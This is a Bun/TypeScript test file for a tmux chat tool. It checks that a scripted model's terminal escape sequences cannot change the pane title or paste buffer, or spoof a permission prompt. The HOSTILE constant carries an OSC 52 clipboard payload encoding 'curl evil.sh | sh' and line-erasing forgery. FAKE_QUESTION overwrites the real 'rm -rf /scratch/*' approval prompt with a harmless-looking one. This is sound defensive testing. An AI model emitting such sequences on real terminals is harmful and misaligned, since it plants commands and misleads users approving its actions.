import { afterAll, beforeAll, expect, test } from "bun:test";
import { chmodSync, existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parseScript } from "../../scripted-server/script.ts";
import { startScriptedServer } from "../../scripted-server/start-scripted-server.ts";
import { runOpsScript } from "../../testing/run-ops-script.ts";
import { TmuxServer, uniqueSessionName } from "../../testing/tmux.ts";

// Invariants named by number in this file are those of docs/ARCHITECTURE.md.
const repoRoot = join(import.meta.dir, "..", "..");
const workspace = mkdtempSync(join(tmpdir(), "org-tmux-inject-"));
chmodSync(workspace, 0o755);
const configFile = join(workspace, "org.config.json");
writeFileSync(configFile, JSON.stringify({ personas: [{ name: "agent", kind: "agent", tools: {} }] }));

// OSC 0 sets the pane title; OSC 52 puts base64 "curl evil.sh | sh" into tmux's paste buffer; CSI 2K and a
// bare CR erase the line to forge another speaker; U+009B is a C1 CSI; U+202E reverses what follows.
const HOSTILE = "\x1b]0;pwned-title\x07\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[2K\rpython │ ok \u009b2K \u202eevil";
const SHOWN = "\\x1b]0;pwned-title\\x07\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x1b[2K\\x0dpython │ ok \\u009b2K \\u202eevil";
// While the agent's question is open, python streams a cursor-up, an erased line and a harmless-looking question.
const FAKE_QUESTION = '\x1b[3A\x1b[2Kagent wants to run sh {"cmd":"df -h"}';
const askConfigFile = join(workspace, "ask.config.json");
writeFileSync(
  askConfigFile,
  JSON.stringify({
    personas: [
      { name: "agent", kind: "agent", tools: { sh: "ask" } },
      { name: "python", kind: "python", tools: {} },
    ],
    limits: { concurrencyPerServer: 2, hopsPerMessage: 0 },
  }),
);
const script = parseScript(
  JSON.stringify({
    models: ["scripted"],
    rules: [
      { when: { persona: "agent", lastRole: "tool" }, reply: { text: "understood, not running it." } },
      {
        when: { persona: "agent", lastMessage: "tidy" },
        reply: { firstByteDelayMs: 500, toolCalls: [{ name: "sh", arguments: { cmd: "rm -rf /scratch/*; echo done" } }] },
      },
      {
        when: { persona: "python", lastMessage: "tidy" },
        reply: { text: `let me check ${".".repeat(30)} ${FAKE_QUESTION}`, chunkSize: 4, delayMs: 50 },
      },
      { when: { persona: "agent" }, reply: { text: HOSTILE, chunkSize: 5 } },
    ],
  }),
  "terminal-injection.tmux.test.ts",
);

let server: Awaited<ReturnType<typeof startScriptedServer>>;
let tmux: TmuxServer;
beforeAll(async () => {
  tmux = await TmuxServer.start();
  server = await startScriptedServer({ script, port: 0 });
});
afterAll(async () => {
  await tmux?.close();
  await server?.stop();
  rmSync(workspace, { recursive: true, force: true });
});

async function runScript(name: string, session: string, args: string[] = []) {
  const env = { ...tmux.env, ORG_TMUX_SESSION: session, OLLAMA_BASE: server.url, OLLAMA_MODEL: "scripted" };
  const result = await runOpsScript(repoRoot, name, args, { cwd: workspace, env });
  if (result.code !== 0) throw new Error(`ops/${name} failed (${result.code}): ${result.stderr}`);
  return result.stdout;
}

const title = async (session: string) => (await tmux.tmux("display-message", "-p", "-t", session, "#{pane_title}")).trim();
const buffers = async () => (await tmux.tmux("list-buffers")).trim();

test("invariant 10: a model's OSC 0 and OSC 52 change neither the pane title nor the paste buffer, live or replayed by --resume", async () => {
  const live = uniqueSessionName("org-inject");
  await runScript("run.sh", live, ["--config", configFile]);
  // tmux then takes OSC 52 from programs into its paste buffer (users turn this on for clipboard sync).
  await tmux.tmux("set-option", "-s", "set-clipboard", "on");
  await tmux.waitFor(live, "group ›");
  const titleBefore = await title(live);
  expect(await buffers()).toBe("");

  await tmux.type(live, "show me a trick");
  await tmux.keys(live, "Enter");
  const pane = await tmux.waitFor(live, /agent ╰/);
  expect(pane).toContain(`agent │ ${SHOWN}`);
  expect(await title(live)).toBe(titleBefore);
  expect(await buffers()).toBe("");

  await tmux.waitFor(live, /agent ╰[\s\S]*group ›/);
  await tmux.type(live, "/quit");
  await tmux.keys(live, "Enter");
  const ended = await tmux.waitFor(live, /--resume (\S+)/);
  const sessionId = /--resume (\S+)/.exec(ended)?.[1] as string;
  await runScript("stop.sh", live);

  const replay = uniqueSessionName("org-resume");
  await runScript("run.sh", replay, ["--config", configFile, "--resume", sessionId]);
  const replayed = await tmux.waitFor(replay, /Resumed with[\s\S]*group ›/);
  expect(replayed).toContain(`agent: ${SHOWN}`);
  expect(await title(replay)).toBe(titleBefore);
  expect(await buffers()).toBe("");
  await runScript("stop.sh", replay);
}, 60_000);

/** Whether a session's transcript in the workspace has a finished message from `persona`. */
function transcriptHasMessageFrom(persona: string): boolean {
  const sessions = join(workspace, ".org", "sessions");
  if (!existsSync(sessions)) return false;
  return readdirSync(sessions).some((file) =>
    readFileSync(join(sessions, file), "utf8")
      .split("\n")
      .some((line) => line.includes('"type":"message"') && line.includes(`"from":"${persona}"`)),
  );
}

test("invariant 10: while the question is open, another persona's cursor-up and fake question do not reach the pane", async () => {
  rmSync(join(workspace, ".org", "sessions"), { recursive: true, force: true });
  const session = uniqueSessionName("org-spoof");
  await runScript("run.sh", session, ["--config", askConfigFile]);
  await tmux.waitFor(session, "group ›");
  await tmux.type(session, "please tidy up");
  await tmux.keys(session, "Enter");
  const atQuestion = await tmux.waitFor(session, "allow? [y]es / [n]o / [a]lways for sh:");
  // The real ⚙ line of the call stands right above its question.
  expect(atQuestion).toMatch(
    /agent +│ ⚙ sh \{"cmd":"rm -rf \/scratch\/\*; echo done"\}\nagent wants to run sh \{"cmd":"rm -rf \/scratch\/\*; echo done"\}\n/,
  );
  // python goes on streaming and finishes (its message reaches the transcript) while the question is open.
  const deadline = Date.now() + 20_000;
  while (!transcriptHasMessageFrom("python") && Date.now() < deadline) await Bun.sleep(100);
  expect(transcriptHasMessageFrom("python")).toBe(true);
  expect(await tmux.capture(session)).toBe(atQuestion);

  await tmux.type(session, "n");
  const after = await tmux.waitFor(session, /understood, not running it\./);
  const answered = after.slice(after.indexOf("allow? [y]es"));
  expect(answered).toContain('\\x1b[3A\\x1b[2Kagent wants to run sh {"cmd":"df -h"}');
  expect(answered).toContain("· denied: agent may not run sh this time");
  await runScript("stop.sh", session);
}, 60_000);
